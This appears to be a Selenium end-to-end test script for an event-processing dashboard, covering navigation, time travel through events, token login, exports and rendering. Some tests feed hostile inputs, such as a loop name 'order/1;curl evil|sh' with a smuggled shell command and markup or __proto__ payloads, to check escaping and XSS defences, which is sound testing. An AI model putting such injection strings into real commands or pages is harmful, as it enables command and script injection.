"""Every page and act of the dashboard: see run. usage: pages.py BINARIES [--pictures FOLDER] [--only NAME]"""

import argparse
import time
import urllib.parse

from selenium.webdriver.common.keys import Keys

from browser import Browser
from fleet import Fleet, eventually
from stub import DIRECTION, EVENTS, MARKUP, Stub
from troubles import busy, outcomes, troubles

SHAPES = [(390, "dark"), (390, "light"), (820, "light"), (1440, "dark"), (1280, "light")]


def overview(browser, fleet):
    browser.open(fleet.url, "/")
    for pool in ["stock", "payments", "shipping"]:
        browser.sees(f"{pool}.1")
    browser.sees("Nothing needs a person.")
    # A pool whose only worker is killed: red, once an effect waits for it.
    fleet.kill("shipping.1")
    fleet.send(fleet.order("lost"))
    browser.sees("No worker serves pool shipping: 1 effect waits.")
    browser.sees("mobius effects --pool shipping", ".command")
    browser.judge("overview-trouble")
    browser.clicks(".troubles a", "1 effect waits")
    browser.sees("order/lost, event 3", "tbody")
    browser.sees("no worker serves shipping", "tbody")
    browser.judge("effects")
    browser.clicks("tbody a", "order/lost")
    browser.sees("Model after event 3")
    browser.driver.back()
    browser.writes("#pool", "none")
    browser.clicks("button", "Show")
    browser.sees("There is no pool none", ".problem")
    browser.clicks("nav a", "Overview")
    fleet.worker("shipping", "shipping.2")
    browser.sees("Nothing needs a person.")
    browser.sees("shipping.2")
    browser.clicks("nav a", "Dead letters")
    browser.sees("There are no dead letters here.")
    browser.clicks("nav a", "Overview")
    fleet.ask("pools", "pause", "stock", "--why", "<b>stocktaking</b>")
    browser.sees("Pool stock is paused")
    browser.sees("<b>stocktaking</b>")
    browser.sees("mobius pools resume stock", ".command")
    fleet.ask("pools", "resume", "stock")
    browser.sees("Nothing needs a person.")
    assert browser.all("svg.spark polyline"), "no line was drawn"
    # The coordinator goes and comes back, and the page with it.
    fleet.kill("serve")
    browser.sees("does not answer")
    fleet.serve()
    browser.sees("Nothing needs a person.")


def loops(browser, fleet):
    fleet.send(*[fleet.order(f"list-{index:03}", customer=f"Customer {index}", quantity=index % 90 + 1, city="Paris" if index % 7 else "Rome") for index in range(120)])
    eventually("all are delivered", lambda: len(fleet.get("/loops?prefix=order/list&limit=200&where=stage%3Ddelivered")["loops"]) == 120)
    browser.open(fleet.url, "/#/loops")
    browser.clicks(".chips a", "order")
    browser.sees("customer", "thead")  # a column of facts
    browser.sees("delivered", "tbody")
    browser.writes("#prefix", "order/list-")
    browser.clicks("button", "Show")
    browser.sees("order/list-049")
    browser.clicks(".pages button", "Next")
    browser.sees("order/list-050")
    second = browser.address
    browser.clicks(".pages button", "Next")
    browser.sees("order/list-119")
    assert not [each for each in browser.all(".pages button") if "Next" in each.text], "there is a page behind the last"
    browser.clicks(".pages button", "Back")
    browser.sees("order/list-050")
    assert browser.address == second
    # An address can be sent to somebody.
    browser.open(fleet.url, "/" + second)
    browser.sees("order/list-050")
    browser.clicks(".pages a", "First page")
    browser.sees("order/list-000")
    browser.clicks("thead a", "total")
    eventually("sorted", lambda: browser.all("th[aria-sort=ascending]"))
    browser.clicks("thead a", "total")
    eventually("sorted", lambda: browser.all("th[aria-sort=descending]"))
    browser.sees("40,500", "tbody tr:first-child")
    browser.writes("#where", "city = Rome and total > 10000")
    browser.clicks("button", "Show")
    eventually("Rome only", lambda: "Rome" in browser.text("tbody") and "Paris" not in browser.text("tbody"))
    browser.writes("#where", "city ~ Rome")
    browser.clicks("button", "Show")
    browser.sees("city", ".problem")
    browser.open(fleet.url, "/#/loops?state=ended&prefix=order/list")
    browser.sees("No loop is like that.")


def a_loop(browser, fleet):
    fleet.send(fleet.order("one", quantity=3))
    eventually("delivered", lambda: fleet.events("order/one")[-1]["sequence"] == 4)
    browser.open(fleet.url, "/#/loops?prefix=order/one")
    browser.clicks("tbody a", "order/one")
    browser.sees("retireLater waits for its time.", ".waits")
    for name in ["start", "placed", "reserved", "charged", "shipped"]:
        browser.sees(name, ".timeline")
    browser.sees("4 of 4", ".where")
    browser.sees("delivered", ".changed > .row")
    browser.sees("was shipping", ".changed > .row")
    # Through time by keys, by the slider and by the list.
    browser.presses(Keys.ARROW_LEFT)
    browser.sees("Model after event 3")
    browser.sees("shipping", ".changed > .row")
    browser.presses("k")
    browser.sees("2 of 4", ".where")
    browser.presses("j")
    browser.presses(Keys.ARROW_RIGHT)
    browser.sees("4 of 4", ".where")
    browser.presses(Keys.HOME)
    browser.sees("Model after event 0")
    browser.one("#slider").send_keys(Keys.ARROW_RIGHT)
    browser.sees("Model after event 1")
    browser.clicks(".event", "charged")
    browser.sees("Model after event 3")
    assert browser.address.endswith("?at=3")
    browser.driver.refresh()
    browser.sees("3 of 4", ".where")
    browser.driver.back()
    browser.driver.forward()
    browser.sees("3 of 4", ".where")
    # Why?
    browser.presses(Keys.END)
    browser.sees("Model after event 4")
    link = eventually("Why?", lambda: [each for each in browser.all(".why") if "stage" in each.get_attribute("aria-label")])[0]
    browser.script("arguments[0].focus()", link)
    link.send_keys(Keys.ENTER)
    browser.sees("changed it from shipping to delivered", ".whence")
    browser.sees("Event 1 placed asked for reserve", ".whence")
    browser.driver.refresh()
    browser.sees("A sender from outside sent it", ".whence")
    browser.judge("why")
    browser.clicks(".whence .close")
    eventually("closed", lambda: not browser.all(".whence"))
    # Live, also while a worker is killed: what it waits for is told.
    fleet.kill("payments.1")
    fleet.send(fleet.order("live"))
    browser.open(fleet.url, "/#/loop/order%2Flive")
    browser.sees("no worker serves payments", ".waits")
    fleet.worker("payments", "payments.2")
    browser.sees("shipped", ".timeline")
    browser.sees("4 of 4", ".where")
    browser.sees("Model after event 4")
    # The coordinator is killed, then the server: the page goes on with their next runs, and still follows.
    fleet.send(fleet.order("follow"))
    browser.open(fleet.url, "/#/loop/customer%2FAda")
    browser.sees("Live", ".travel [aria-current]")
    fleet.kill("coordinator")
    fleet.kill("serve")
    fleet.coordinate()
    fleet.serve()
    before = int(browser.text(".where").split(" ")[0])
    fleet.ask("send", "customer/Ada", '{"began":{"_0":"by hand"}}')
    eventually("the page shows the event", lambda: int(browser.text(".where").split(" ")[0]) > before and "by hand" in browser.text(".right"))
    # One that there is not.
    browser.open(fleet.url, "/#/loop/order%2Fnone")
    browser.sees("There is no loop order/none")
    browser.clicks("a", "Send its first event")
    browser.sees("Send an event to order/none")


def acts(browser, fleet):
    browser.open(fleet.url, "/#/send/order%2Facts?begin=1")
    eventually("the program's events", lambda: len(browser.all("#example option")) > 10)
    browser.script("const list = arguments[0]; list.value = [...list.options].find((each) => each.text === 'placed').value; list.dispatchEvent(new Event('change'))", browser.one("#example"))
    assert '"placed"' in browser.one("#event").get_attribute("value")
    browser.writes("#event", '{"plaiced":{}}')
    browser.clicks("#send")
    browser.sees("order/acts", "dialog")
    browser.judge("confirmation")
    browser.clicks("dialog button", "Cancel")
    eventually("no dialog", lambda: not browser.all("dialog"))
    browser.clicks("#send")
    browser.clicks("#confirm-send")
    browser.sees("did you mean placed", ".problem")
    assert not fleet.get("/loops?prefix=order/acts")["loops"], "something was sent"
    # The server is killed: the outcome is unknown, and the same key makes it harmless to send it again.
    event = '{"placed":{"_0":{"customer":"Ada","article":"cup","quantity":1,"city":"Oslo"}}}'
    browser.writes("#event", event)
    key = browser.text("form code")
    fleet.kill("serve")
    browser.clicks("#send")
    browser.clicks("#confirm-send")
    browser.sees("Nobody knows whether it was applied")
    fleet.serve()
    for words in ["Applied as event 1", "It was applied before"]:
        browser.clicks("#send")
        browser.clicks("#confirm-send")
        browser.sees(words, ".done")
        assert browser.text("form code") == key
    assert [each["key"] for each in fleet.events("order/acts") if each.get("source") == "outside"] == [key]
    browser.clicks(".done a", "event 1")
    browser.sees("placed", ".timeline")
    # The program refuses: its sentence, and the event is in the history.
    browser.open(fleet.url, "/#/send/order%2Facts")
    browser.writes("#event", '{"placed":{"_0":{"customer":"Ada","article":"cup","quantity":1,"city":"Oslo"}}}')
    browser.clicks("#send")
    browser.clicks("#confirm-send")
    browser.sees("The event is in the history nevertheless", ".problem")


def tokens(browser, fleet):
    locked = Fleet(fleet.binaries, with_keys=True)
    try:
        for name, rights in [("reader", "read"), ("writer", "read,models,send")]:
            locked.mobius("keys", "token", name, "--rights", rights, *locked.keys)
        token = {name: (locked.path / "keys" / f"{name}.token").read_text().strip() for name in ["reader", "writer"]}
        for name in token:  # they count within a second
            eventually(f"{name} is admitted", lambda: locked.get("/session", token[name]))
        browser.open(locked.url, "/#/loops")
        browser.sees("Log in")
        browser.judge("login")
        browser.writes("#token", "mft_none")
        browser.clicks("button", "Log in")
        browser.sees("allow-list", ".problem")
        browser.writes("#token", token["writer"][:9] + "\u2026")
        browser.clicks("button", "Log in")
        browser.sees("This is no token: it has spaces or characters", ".problem")
        browser.writes("#token", token["writer"])
        browser.clicks("button", "Log in")
        browser.sees("There are no loops yet")
        browser.sees("Token writer", "#who")
        cookie = browser.driver.get_cookie(f"mobius-token-{locked.port}")
        assert cookie["httpOnly"] and cookie["sameSite"] == "Strict" and cookie["path"] == "/", cookie
        assert browser.script("return document.cookie") == ""
        browser.open(locked.url, "/#/send/order%2F1?begin=1")
        browser.writes("#event", '{"placed":{"_0":{"customer":"Ada","article":"tea","quantity":1,"city":"Oslo"}}}')
        browser.clicks("#send")
        browser.clicks("#confirm-send")
        browser.sees("Applied as event 1")
        locked.kill("serve")
        browser.clicks("#who button", "Log out")
        browser.sees("You are still logged in", "#who")
        locked.serve()
        # What was typed outlasts a token.
        browser.writes("#event", '{"typed":{}}')
        browser.driver.delete_all_cookies()
        browser.clicks("#send")
        browser.clicks("#confirm-send")
        browser.sees("Log in")
        browser.writes("#token", token["writer"])
        browser.clicks("button", "Log in")
        eventually("the typed event", lambda: browser.one("#event").get_attribute("value") == '{"typed":{}}')
        browser.clicks("#who button", "Log out")
        browser.sees("Log in")
        browser.writes("#token", token["reader"])
        browser.clicks("button", "Log in")
        browser.sees("Send an event")
        # What it lacks the right for is told, what it has is shown.
        browser.open(locked.url, "/#/loop/order%2F1")
        browser.sees("lacks the right 'models'", ".problem")
        browser.sees("no worker serves stock", ".waits")
        locked.mobius("keys", "revoke", "reader", *locked.keys)
        browser.sees("Log in")
    finally:
        locked.stop()


def export(browser, fleet):
    fleet.send(fleet.order("exported", quantity=2))
    eventually("delivered", lambda: fleet.events("order/exported")[-1]["sequence"] == 4)
    fleet.ask("export", "order/exported", "--output", "exported.jsonl")
    url = fleet.view("exported.jsonl")
    browser.open(url, "/#/loops")
    browser.sees("An export of", "#who")
    browser.clicks("tbody a", "order/exported")
    browser.sees("4 of 4", ".where")
    browser.sees("delivered", ".changed > .row")
    browser.presses(Keys.ARROW_LEFT)
    browser.sees("Model after event 3")
    browser.sees("shipping", ".changed > .row")
    assert not browser.one("a.sends").is_displayed()
    browser.judge("export")
    for path, words in [("/#/", "order"), ("/#/effects", "retireLater"), ("/#/letters", "There are no dead letters here.")]:
        browser.open(url, path)
        browser.sees(words)
    fleet.kill("view")


def hostile(browser, fleet):
    stub = Stub(fleet.url)
    quoted = urllib.parse.quote(MARKUP, safe="")
    pages = ["/#/", "/#/loops", "/#/effects", "/#/letters", f"/#/loop/{quoted}", f"/#/send/{quoted}", "/#/loop/markup?at=2&why=%2F__proto__", "/#/loop/deep", "/#/loop/large", "/#/loop/exact"]
    for path in pages:
        browser.open(stub.url, path)
        browser.sees({"/#/loop/deep": "down", "/#/loop/large": "show all 1,000,000 characters", "/#/loop/exact": "9223372036854775807"}.get(path, "onerror"))
        if "/loop/" in path:
            browser.sees(f"Model after event {2 if 'at=2' in path else 3}")
        if "why" in path:
            browser.sees("Event 1", ".whence")
        browser.judge("hostile-" + "".join(letter for letter in path if letter.isalpha())[:24], ignored=["color-contrast"])
        assert browser.script("return window.broken === undefined"), f"{path} ran a script"
        assert not browser.all("main img, main script, main iframe"), f"{path} has markup"
        assert "\u202e" not in browser.text() and "\u0000" not in browser.text(), f"{path} shows marks of direction"
        assert browser.script("return document.querySelectorAll('*').length") < 6000
    browser.open(stub.url, "/#/loop/deep")
    for _ in range(20):
        browser.clicks(".toggle[aria-expanded=false]")
    browser.open(stub.url, "/#/loop/exact")
    browser.sees("-9223372036854775808")
    # A million events: at once, from end to end, and only what is looked at is asked for.
    begun = time.monotonic()
    browser.open(stub.url, "/#/loop/million")
    browser.sees("1,000,000 of 1,000,000", ".where")
    browser.sees("999,999", ".timeline")
    print(f"   a million events: first picture after {time.monotonic() - begun:.2f} s")
    browser.judge("million")
    for number in [0, 123_456, 777_777, 999_999]:
        browser.script("const slider = arguments[0]; slider.value = arguments[1]; slider.dispatchEvent(new Event('input'))", browser.one("#slider"), number)
        browser.sees(f"{number:,}", ".event[aria-selected=true]")
        browser.sees(f"Model after event {number:,}")
    browser.script("arguments[0].scrollTop = arguments[0].scrollHeight / 2", browser.one(".timeline"))
    eventually("the middle", lambda: any(abs(int(each.get_attribute("data-event")) - EVENTS / 2) < 100 and "changed" in each.text for each in browser.all(".event")))
    assert sum(path.endswith("/history") for path in stub.asked) < 80, "it asks for more of the history than it shows"
    # Who looks elsewhere asks nothing.
    browser.open(stub.url, "/#/")
    browser.sees("onerror")
    first = browser.driver.current_window_handle
    browser.driver.switch_to.new_window("tab")
    eventually("it is hidden", lambda: True)
    browser.open(stub.url, "/#/loops")
    browser.sees("onerror")
    asked = stub.asked.count("/status")
    browser.open(fleet.url, "/#/")
    browser.sees("Nothing needs a person.")
    eventually("this page has asked three times", lambda: browser.script("return performance.getEntriesByType('resource').filter((each) => each.name.endsWith('/status')).length >= 3"))
    assert stub.asked.count("/status") - asked <= 1, "a hidden page asks"
    browser.driver.close()
    browser.driver.switch_to.window(first)
    stub.shutdown()


def shapes(browser, fleet):
    fleet.send(fleet.order("shape", customer="Ada <b>Lovelace</b>", city="\u202eנמל"))
    eventually("delivered", lambda: fleet.events("order/shape")[-1]["sequence"] == 4)
    pages = {
        "overview": ("/#/", "Nothing needs a person."), "loops": ("/#/loops?prefix=order/shape", "order/shape"),
        "effects": ("/#/effects?loop=order/shape", "retireLater"),
        "loop": ("/#/loop/order%2Fshape", "Model after event 4"), "send": ("/#/send/order%2Fshape", "The event, in JSON"),
    }
    for width, scheme in SHAPES:
        browser.shape(width, scheme)
        for name, (path, words) in pages.items():
            browser.open(fleet.url, path)
            browser.sees(words)
            browser.judge(f"{name}-{width}-{scheme}")


def logic(browser, fleet):
    browser.open(fleet.url, "/#/loops")

    def js(module, expression):
        return browser.driver.execute_async_script(
            f"const done = arguments[0]; import('/dashboard/{module}.js').then((m) => done(JSON.stringify({expression})), (error) => done(String(error)))")

    for module, expression, wanted in [
        # An element that was put in is one change, not one of all that follow.
        ("difference", "m.changes([1, 2, 3, 4], [1, 9, 2, 3, 4])", "1"),
        ("difference", "m.changes([1, 2, 3], [1, 3])", "1"),
        ("difference", "m.changes([...Array(10000).keys()], [...Array(10000).keys()].map((each) => each + 1))", "2"),
        ("difference", "m.parts(['a', 'b', 'c', 'd'], ['b', 'x', 'd', 'e']).map((each) => each.slice(1).map((v) => v === m.none ? '' : v).join('>'))", '["a>","b>b","c>x","d>d",">e"]'),
        ("difference", "m.parts([], [1, 2]).length + m.parts([1, 2, 3], []).length + m.parts([], []).length", "5"),
        ("difference", "m.parts([...Array(500).keys()], [...Array(500).keys()].map((each) => -each - 1)).length", "500"),
        ("difference", "m.changes({a: 1, b: {c: 2}}, {b: {c: 3}, d: 4})", "3"),
        ("difference", "m.changes([], {})", "1"),
        ("difference", "m.same({a: 1, b: [2]}, {b: [2], a: 1})", "true"),
        ("difference", "m.same({a: 1}, {a: 1, b: undefined})", "false"),
        ("difference", "m.same(JSON.parse('{\"__proto__\":1}'), {})", "false"),
        ("difference", "m.valueAt({'a/b~': [5]}, m.pointerTo(m.pointerTo('', 'a/b~'), 0))", "5"),
        ("api", "m.readJSON('[18446744073709551615,1.10,2,-0.5]').map(String)", '["18446744073709551615","1.10","2","-0.5"]'),
        ("api", "m.query({a: '', b: 'x&y', c: undefined, d: 0})", '"?b=x%26y&d=0"'),
        ("history", "m.effectPlace('a/b/12/3')", '{"loop":"a/b","event":12,"index":3}'),
        ("history", "m.effectPlace('none') ?? null", "null"),
        ("tree", "m.brief({stage: {_0: {delivered: {_0: 'x'}}}})", '"stage delivered \\"x\\""'),
        ("dom", "[0, 999, 1500, 61000, 90061000].map(m.span)", '["0 ms","999 ms","1.5 s","1 min 1 s","1 d 1 h"]'),
        ("dom", r"""["a/b-1", "a;b|c", "it's", ""].map(m.shellQuoted)""", r"""["a/b-1","'a;b|c'","'it'\\''s'","''"]"""),
        ("dom", r"m.command('mobius effects --why', 'order/1;curl evil|sh').textContent", "\"mobius effects --why 'order/1;curl evil|sh'\""),
        ("dom", r"[m.command('mobius dead retry', '-x/1/0'), m.command('mobius effects --pool', '-x')].map((each) => each.textContent)",
         '["mobius dead retry -- -x/1/0","mobius effects --pool=-x"]'),
        ("dom", r"m.prose('a `mobius keys token` b').map((each) => each.tagName ?? each)", '["a ","CODE"," b"]'),
        ("dom", r"m.prose('no loop x`mobius y`z', 'x`mobius y`z').join('|')", '"no loop x`mobius y`z"'),
        ("dom", r"m.prose('see `mobius model x;evil` or `curl evil`').join('|')", '"see `mobius model x;evil` or `curl evil`"'),
        ("recent", r"(() => { const r = new m.Recent(); for (let i = 0; i < 5; i++) r.set(i, i, 9 << 20); return r.keys(); })()", "[3,4]"),
        ("recent", r"(() => { const r = new m.Recent(); for (let i = 0; i < 5; i++) r.set(i, i, 5 << 20); r.get(2); r.set(9, 9, 1); return r.keys(); })()", "[3,4,2,9]"),
        ("dom", r"m.shown('a\u202e\u0007\u000a\ud800🙂')", r'"a\\u{202e}\\u{7}\\n\\u{d800}🙂"'),
    ]:
        found = js(module, expression)
        assert found == wanted, f"{expression} is {found}, not {wanted}"


def readme(browser, fleet):
    """The README's pictures, of a fleet at work with one trouble."""
    for pool in ["stock", "payments", "shipping"]:
        fleet.worker(pool, f"{pool}.2")
    browser.shape(1180, "light", height=740)
    browser.open(fleet.url, "/#/")
    browser.sees("Nothing needs a person.")

    def is_seen(times):
        return browser.script("return performance.getEntriesByType('resource').filter((each) => each.name.endsWith('/status')).length") >= times

    for turn in range(25):
        batch = [fleet.order(f"{1000 + turn * 100 + index}", customer=f"Customer {index % 17}", article="cup") for index in range(10 + turn * 37 % 60)]
        fleet.send(*batch)
        if turn == 20:
            for name in ["shipping.1", "shipping.2"]:
                fleet.kill(name)
        eventually("the page has asked again", lambda: is_seen(turn + 2))
    browser.sees("No worker serves pool shipping")
    browser.judge("dashboard-overview")
    fleet.send(fleet.order("4711", customer="Ada", article="kettle", quantity=2, city="Bergen"))
    fleet.worker("shipping", "shipping.3")
    eventually("delivered", lambda: fleet.events("order/4711")[-1]["sequence"] == 4)
    browser.shape(1180, "light", height=930)
    browser.open(fleet.url, "/#/loop/order%2F4711?at=4&why=%2Forder%2F_0%2Fstage")
    browser.sees("Event 1 placed asked for reserve")
    browser.sees("Model after event 4")
    browser.judge("dashboard-loop")


PARTS = {part.__name__: part for part in [logic, overview, loops, a_loop, acts, tokens, export, hostile, busy, troubles, outcomes, shapes, readme]}


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("binaries")
    parser.add_argument("--pictures")
    parser.add_argument("--only", choices=PARTS)
    options = parser.parse_args()
    fleet, browser = Fleet(options.binaries), Browser(options.pictures)
    try:
        for pool in ["stock", "payments", "shipping"]:
            fleet.worker(pool, f"{pool}.1", *(["--pieces", "1000000"] if pool == "stock" else []))
        for name, part in PARTS.items():
            if name == options.only or options.only is None and part is not readme:
                part(browser, fleet)
                # Scripts and styles of other places, and mistakes of ours, are complaints; refused requests are expected.
                complaints = browser.complaints("Failed to load resource", "net::ERR")
                assert not complaints, complaints
                print(f"ok {name}")
    finally:
        browser.quit()
        fleet.stop()


main()
